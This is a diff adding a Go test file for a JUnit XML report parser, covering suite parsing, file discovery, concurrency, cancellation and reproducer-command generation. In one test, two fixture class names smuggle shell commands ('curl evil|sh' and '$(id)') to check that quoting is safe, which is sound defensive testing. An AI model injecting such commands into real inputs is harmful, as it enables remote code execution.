@@ -0,0 +1,409 @@
+package junit
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io/fs"
+	"io/ioutil"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"testing/fstest"
+	"time"
+)
+
+// statuses lists the status of each testcase of the report by its id
+func statuses(report *Report) map[string]Status {
+	statuses := map[string]Status{}
+	for _, suite := range report.Suites {
+		for _, testcase := range suite.Cases {
+			statuses[testcase.Id()] = testcase.Status
+		}
+	}
+	return statuses
+}
+
+func TestParse(t *testing.T) {
+	tests := []struct {
+		name     string
+		xml      string
+		suites   []string
+		summary  Summary
+		statuses map[string]Status
+		err      bool
+	}{
+		{
+			name: "testsuite root",
+			xml: `<testsuite name="api" tests="3" failures="1" errors="1" skipped="0">
+				<testcase classname="api" name="login" time="0.5"/>
+				<testcase classname="api" name="logout"><failure message="expected 200">got 500</failure></testcase>
+				<testcase classname="api" name="signup"><error type="panic">nil pointer</error></testcase>
+			</testsuite>`,
+			suites:   []string{"api"},
+			summary:  Summary{Tests: 3, Failures: 1, Errors: 1},
+			statuses: map[string]Status{"api.login": StatusPassed, "api.logout": StatusFailed, "api.signup": StatusError},
+		},
+		{
+			name: "testsuites root",
+			xml: `<?xml version="1.0" encoding="UTF-8"?>
+			<testsuites>
+				<testsuite name="api" tests="1" failures="0"><testcase classname="api" name="login"/></testsuite>
+				<testsuite name="web" tests="1" failures="0" skipped="1"><testcase classname="web" name="home"><skipped message="flaky"/></testcase></testsuite>
+			</testsuites>`,
+			suites:   []string{"api", "web"},
+			summary:  Summary{Tests: 2, Skipped: 1},
+			statuses: map[string]Status{"api.login": StatusPassed, "web.home": StatusSkipped},
+		},
+		{
+			name: "status attributes",
+			xml: `<testsuite name="bazel" tests="4" failures="0">
+				<testcase classname="bazel" name="a" status="run"/>
+				<testcase classname="bazel" name="b" status="failed"/>
+				<testcase classname="bazel" name="c" status="notrun"/>
+				<testcase classname="bazel" name="d" status="ERROR"/>
+			</testsuite>`,
+			suites:   []string{"bazel"},
+			summary:  Summary{Tests: 4, Failures: 1, Errors: 1, Skipped: 1},
+			statuses: map[string]Status{"bazel.a": StatusPassed, "bazel.b": StatusFailed, "bazel.c": StatusSkipped, "bazel.d": StatusError},
+		},
+		{
+			name: "child elements win over status attributes",
+			xml: `<testsuite name="gradle" tests="2" failures="1" skipped="1">
+				<testcase classname="gradle" name="a" status="passed"><failure message="boom"/></testcase>
+				<testcase classname="gradle" name="b" status="failed"><skipped/></testcase>
+			</testsuite>`,
+			suites:   []string{"gradle"},
+			summary:  Summary{Tests: 2, Failures: 1, Skipped: 1},
+			statuses: map[string]Status{"gradle.a": StatusFailed, "gradle.b": StatusSkipped},
+		},
+		{
+			name: "no count attributes",
+			xml: `<testsuite name="pytest">
+				<testcase classname="tests.test_login" name="test_ok"/>
+				<testcase classname="tests.test_login" name="test_fails"><failure message="assert False"/></testcase>
+				<testcase classname="tests.test_login" name="test_skipped"><skipped/></testcase>
+			</testsuite>`,
+			suites:   []string{"pytest"},
+			summary:  Summary{Tests: 3, Failures: 1, Skipped: 1},
+			statuses: map[string]Status{"tests.test_login.test_ok": StatusPassed, "tests.test_login.test_fails": StatusFailed, "tests.test_login.test_skipped": StatusSkipped},
+		},
+		{
+			name: "counts that disagree with the testcases",
+			xml: `<testsuite name="api" tests="10" failures="0">
+				<testcase classname="api" name="login"><failure>boom</failure></testcase>
+			</testsuite>`,
+			suites:   []string{"api"},
+			summary:  Summary{Tests: 1, Failures: 1},
+			statuses: map[string]Status{"api.login": StatusFailed},
+		},
+		{
+			name: "nested suites",
+			xml: `<testsuite name="outer" tests="2" failures="1">
+				<testsuite name="inner" tests="2" failures="1">
+					<testcase classname="inner" name="a"/>
+					<testcase classname="inner" name="b"><failure>boom</failure></testcase>
+				</testsuite>
+			</testsuite>`,
+			suites:   []string{"inner", "outer"},
+			summary:  Summary{Tests: 2, Failures: 1},
+			statuses: map[string]Status{"inner.a": StatusPassed, "inner.b": StatusFailed},
+		},
+		{
+			name:     "byte order mark",
+			xml:      "\ufeff" + `<testsuite name="api" tests="1"><testcase classname="api" name="login"/></testsuite>`,
+			suites:   []string{"api"},
+			summary:  Summary{Tests: 1},
+			statuses: map[string]Status{"api.login": StatusPassed},
+		},
+		{
+			name: "truncated report",
+			xml: `<testsuite name="api" tests="3" failures="0">
+				<testcase classname="api" name="login"/>
+				<testcase classname="api" name="logout"/>
+				<testcase classname="api" name="sig`,
+			suites:   []string{"api"},
+			summary:  Summary{Tests: 2},
+			statuses: map[string]Status{"api.login": StatusPassed, "api.logout": StatusPassed},
+			err:      true,
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			report, err := Parse(strings.NewReader(test.xml))
+			if (err != nil) != test.err {
+				t.Fatalf("Parse() error = %v, want error %v", err, test.err)
+			}
+
+			var suites []string
+			for _, suite := range report.Suites {
+				suites = append(suites, suite.Name)
+			}
+			if !reflect.DeepEqual(suites, test.suites) {
+				t.Errorf("suites = %v, want %v", suites, test.suites)
+			}
+			if report.Summary != test.summary {
+				t.Errorf("summary = %+v, want %+v", report.Summary, test.summary)
+			}
+			if got := statuses(report); !reflect.DeepEqual(got, test.statuses) {
+				t.Errorf("statuses = %v, want %v", got, test.statuses)
+			}
+		})
+	}
+}
+
+func TestParseCase(t *testing.T) {
+	report, err := Parse(strings.NewReader(`<testsuite name="api" tests="3" failures="1" skipped="1" time="1.5" timestamp="2024-01-02T03:04:05" hostname="ci">
+		<testcase classname="api" name="login" time="0.25" assertions="3"/>
+		<testcase classname="api" name="logout" time="1"><failure type="AssertionError" message="expected 200"/></testcase>
+		<testcase classname="api" name="signup"><skipped>not ready</skipped></testcase>
+	</testsuite>`))
+	if err != nil {
+		t.Fatalf("Parse() error = %s", err)
+	}
+
+	suite := report.Suites[0]
+	if suite.Time != 1.5 || suite.Timestamp != "2024-01-02T03:04:05" || suite.Hostname != "ci" || suite.Assertions != 3 {
+		t.Errorf("suite = %+v", suite)
+	}
+	want := []Case{
+		{Classname: "api", Name: "login", Time: 0.25, Assertions: 3, Status: StatusPassed},
+		{Classname: "api", Name: "logout", Time: 1, Status: StatusFailed, Failure: Failure{Type: "AssertionError", Message: "expected 200"}},
+		{Classname: "api", Name: "signup", Status: StatusSkipped, SkipMessage: "not ready"},
+	}
+	if !reflect.DeepEqual(suite.Cases, want) {
+		t.Errorf("cases = %+v, want %+v", suite.Cases, want)
+	}
+}
+
+// report is a report with a single suite of passing testcases
+func report(suite string, tests int) *fstest.MapFile {
+	xml := fmt.Sprintf(`<testsuite name=%q tests="%d">`, suite, tests)
+	for i := 0; i < tests; i++ {
+		xml += fmt.Sprintf(`<testcase classname=%q name="test%d"/>`, suite, i)
+	}
+	return &fstest.MapFile{Data: []byte(xml + `</testsuite>`)}
+}
+
+var reports = fstest.MapFS{
+	"a.xml":                    report("a", 1),
+	"notes.txt":                {Data: []byte("not a report")},
+	"reports/api.xml":          report("api", 2),
+	"reports/WEB.XML":          report("web", 1),
+	"reports/coverage.json":    {Data: []byte("{}")},
+	"reports/nested/deep.xml":  report("deep", 1),
+	"shards/1/junit.xml":       report("shard1", 1),
+	"shards/2/junit.xml":       report("shard2", 1),
+	"shards/2/junit-retry.xml": report("retry", 1),
+}
+
+func TestFindFiles(t *testing.T) {
+	tests := []struct {
+		name  string
+		paths []string
+		files []string
+		err   bool
+	}{
+		{"the current directory by default", nil, []string{"a.xml"}, false},
+		{"a directory without its subdirectories", []string{"reports"}, []string{"reports/WEB.XML", "reports/api.xml"}, false},
+		{"a directory with a trailing slash", []string{"reports/"}, []string{"reports/WEB.XML", "reports/api.xml"}, false},
+		{"a report", []string{"reports/nested/deep.xml"}, []string{"reports/nested/deep.xml"}, false},
+		{"a file that is not a report", []string{"notes.txt"}, nil, false},
+		{"reports in the order of the paths", []string{"reports/nested", "a.xml"}, []string{"reports/nested/deep.xml", "a.xml"}, false},
+		{"a glob of directories", []string{"shards/*"}, []string{"shards/1/junit.xml", "shards/2/junit-retry.xml", "shards/2/junit.xml"}, false},
+		{"a glob of reports", []string{"shards/*/junit.xml"}, []string{"shards/1/junit.xml", "shards/2/junit.xml"}, false},
+		{"a glob that leaves out other files", []string{"reports/*"}, []string{"reports/WEB.XML", "reports/api.xml", "reports/nested/deep.xml"}, false},
+		{"a glob that matches nothing", []string{"shards/*/missing.xml"}, nil, true},
+		{"a missing path", []string{"missing"}, nil, true},
+		{"a missing path after others", []string{"a.xml", "missing"}, []string{"a.xml"}, true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			files, err := FindFiles(reports, test.paths)
+			if (err != nil) != test.err {
+				t.Fatalf("FindFiles() error = %v, want error %v", err, test.err)
+			}
+			if err != nil && !errors.Is(err, fs.ErrNotExist) {
+				t.Errorf("FindFiles() error = %v, want fs.ErrNotExist", err)
+			}
+			if !reflect.DeepEqual(files, test.files) {
+				t.Errorf("FindFiles() = %v, want %v", files, test.files)
+			}
+		})
+	}
+}
+
+func TestParseFS(t *testing.T) {
+	parsed, err := ParseFS(reports, "reports/api.xml")
+	if err != nil {
+		t.Fatalf("ParseFS() error = %s", err)
+	}
+	if len(parsed.Suites) != 1 || parsed.Suites[0].Name != "api" || parsed.Tests != 2 {
+		t.Errorf("ParseFS() = %+v", parsed)
+	}
+
+	if _, err := ParseFS(reports, "reports/missing.xml"); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("ParseFS() error = %v, want fs.ErrNotExist", err)
+	}
+}
+
+func TestParseFilesFS(t *testing.T) {
+	fsys := fstest.MapFS{
+		"broken.xml": {Data: []byte(`<testsuite name="broken" tests="2"><testcase classname="broken" name="test0"/><testcase`)},
+	}
+	var files, want []string
+	for i := 0; i < 20; i++ {
+		name := fmt.Sprintf("suite%02d", i)
+		fsys[name+".xml"] = report(name, i%3+1)
+		files = append(files, name+".xml")
+		want = append(want, name)
+		if i == 10 {
+			files = append(files, "missing.xml", "broken.xml")
+			want = append(want, "broken")
+		}
+	}
+
+	for _, concurrency := range []int{0, 1, 4, 50} {
+		t.Run(fmt.Sprintf("concurrency %d", concurrency), func(t *testing.T) {
+			var progress []string
+			parsed, err := ParseFilesFS(context.Background(), fsys, files, concurrency, func(file string, duration time.Duration, done int) {
+				progress = append(progress, file)
+				if done != len(progress) {
+					t.Errorf("progress done = %d after %d files", done, len(progress))
+				}
+			})
+			if err != nil {
+				t.Fatalf("ParseFilesFS() error = %s", err)
+			}
+
+			var suites []string
+			for _, suite := range parsed.Suites {
+				suites = append(suites, suite.Name)
+			}
+			if !reflect.DeepEqual(suites, want) {
+				t.Errorf("suites = %v, want %v", suites, want)
+			}
+			if len(progress) != len(files) {
+				t.Errorf("progress was called for %d files, want %d", len(progress), len(files))
+			}
+
+			var errored []string
+			for _, parseError := range parsed.ParseErrors {
+				errored = append(errored, parseError.File)
+			}
+			if !reflect.DeepEqual(errored, []string{"missing.xml", "broken.xml"}) {
+				t.Errorf("parse errors = %v, want missing.xml and broken.xml", parsed.ParseErrors)
+			}
+		})
+	}
+}
+
+func TestParseFiles(t *testing.T) {
+	dir := t.TempDir()
+	var files, want []string
+	for i := 0; i < 10; i++ {
+		name := fmt.Sprintf("suite%02d", 9-i)
+		file := filepath.Join(dir, name+".xml")
+		if err := ioutil.WriteFile(file, report(name, 1).Data, 0644); err != nil {
+			t.Fatal(err)
+		}
+		files = append(files, file)
+		want = append(want, name)
+	}
+
+	parsed, err := ParseFiles(context.Background(), files, 4, nil)
+	if err != nil {
+		t.Fatalf("ParseFiles() error = %s", err)
+	}
+	var suites []string
+	for _, suite := range parsed.Suites {
+		suites = append(suites, suite.Name)
+	}
+	if !reflect.DeepEqual(suites, want) {
+		t.Errorf("suites = %v, want %v", suites, want)
+	}
+	if parsed.Tests != len(files) {
+		t.Errorf("tests = %d, want %d", parsed.Tests, len(files))
+	}
+}
+
+func TestParseFilesCanceled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	files := []string{"a.xml", "reports/api.xml"}
+	parsed, err := ParseFilesFS(ctx, reports, files, 1, nil)
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("ParseFilesFS() error = %v, want context.Canceled", err)
+	}
+	if len(parsed.Suites) != 0 || !reflect.DeepEqual(parsed.Unparsed, files) {
+		t.Errorf("ParseFilesFS() = %+v, want every file unparsed", parsed)
+	}
+}
+
+// cancelingFS holds a single report, which cancels the context once its
+// first bytes are read
+type cancelingFS struct {
+	data   string
+	cancel context.CancelFunc
+}
+
+func (c cancelingFS) Open(name string) (fs.File, error) {
+	return &cancelingFile{Reader: strings.NewReader(c.data), cancel: c.cancel}, nil
+}
+
+type cancelingFile struct {
+	*strings.Reader
+	cancel context.CancelFunc
+}
+
+func (f *cancelingFile) Read(p []byte) (int, error) {
+	defer f.cancel()
+	return f.Reader.Read(p)
+}
+
+func (f *cancelingFile) Stat() (fs.FileInfo, error) { return nil, errors.New("not supported") }
+func (f *cancelingFile) Close() error               { return nil }
+
+func TestParseFilesCanceledWhileParsing(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	data := report("large", 1000).Data
+	parsed, err := ParseFilesFS(ctx, cancelingFS{data: string(data), cancel: cancel}, []string{"large.xml"}, 1, nil)
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("ParseFilesFS() error = %v, want context.Canceled", err)
+	}
+	if len(parsed.Suites) != 0 || len(parsed.ParseErrors) != 0 || !reflect.DeepEqual(parsed.Unparsed, []string{"large.xml"}) {
+		t.Errorf("ParseFilesFS() = %+v, want the file unparsed", parsed)
+	}
+}
+
+func TestReproducerCommand(t *testing.T) {
+	tests := []struct {
+		name     string
+		suite    string
+		testcase Case
+		command  string
+	}{
+		{"go", "example.com/app", Case{Classname: "example.com/app", Name: "TestLogin/admin"}, "go test example.com/app -run '^TestLogin$/^admin$'"},
+		{"go package with shell metacharacters", "x", Case{Classname: "example.com/x;curl evil|sh", Name: "TestLogin"}, "go test 'example.com/x;curl evil|sh' -run '^TestLogin$'"},
+		{"go package with a quote", "x", Case{Classname: "example.com/x'$(id)", Name: "TestLogin"}, `go test 'example.com/x'\''$(id)' -run '^TestLogin$'`},
+		{"python", "pytest", Case{Classname: "tests.test_login.TestLogin", Name: "test_admin"}, "pytest tests/test_login.py::TestLogin::test_admin"},
+		{"python with shell metacharacters", "pytest", Case{Classname: "tests.test_login", Name: "test_admin[a;b]"}, "pytest 'tests/test_login.py::test_admin[a;b]'"},
+		{"java", "LoginTest", Case{Classname: "com.example.LoginTest", Name: "testLogin()"}, "mvn test -Dtest=com.example.LoginTest#testLogin"},
+		{"unknown framework", "api", Case{Classname: "api", Name: "login"}, ""},
+	}
+	reproducer, err := NewReproducer(nil)
+	if err != nil {
+		t.Fatalf("NewReproducer() error = %s", err)
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if command := reproducer.Command(Suite{Name: test.suite}, test.testcase); command != test.command {
+				t.Errorf("Command() = %q, want %q", command, test.command)
+			}
+		})
+	}
+}